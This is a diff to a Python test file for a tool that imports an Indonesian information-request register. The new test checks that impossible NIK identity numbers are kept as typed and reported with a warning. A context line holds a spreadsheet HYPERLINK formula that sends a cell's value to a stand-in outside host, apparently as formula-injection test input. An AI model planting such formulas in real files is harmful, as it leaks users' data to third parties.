@@ -654,6 +654,22 @@ def test_nama_dengan_pindah_baris_di_sel_dibaca_satu_baris(run, ws, tmp_path):
     assert run.ok("periksa").stdout == ""
 
 
+def test_nik_yang_tidak_mungkin_diimpor_seperti_tertulis_dengan_peringatan(run, ws, tmp_path):
+    # The desk refuses a NIK of no province (99) or no birth date; an old book's value is kept as
+    # typed (it is the record) and told, as the import said nothing of it and periksa never will
+    nik = ["9901011203900001", "5271013202900001", "5271011203900002"]  # 99; 32/02; good
+    src = write_csv(tmp_path / "nik.csv", [[*HEAD, "NIK"]] + [
+        [f"00{i + 1}/PPID/5271/I/2026", "5/1/2026", f"Pemohon {chr(65 + i)}", "Data", n]
+        for i, n in enumerate(nik)
+    ])  # fmt: skip
+    r = run.ok("impor", str(src), "--register", "permohonan")
+    assert [row["nik"] for row in register_rows(ws)] == nik
+    assert (
+        "2 NIK tidak mungkin benar, diimpor seperti tertulis (mis. baris 2, kolom NIK: kode "
+        "provinsi 99 tidak ada; baris 3, kolom NIK: bagian tanggal lahir 320290 tidak sah)"
+    ) in r.stderr
+
+
 LINK = '=HYPERLINK("http://contoh.invalid/?"&D3,"lihat")'  # (text in the source)
 
 
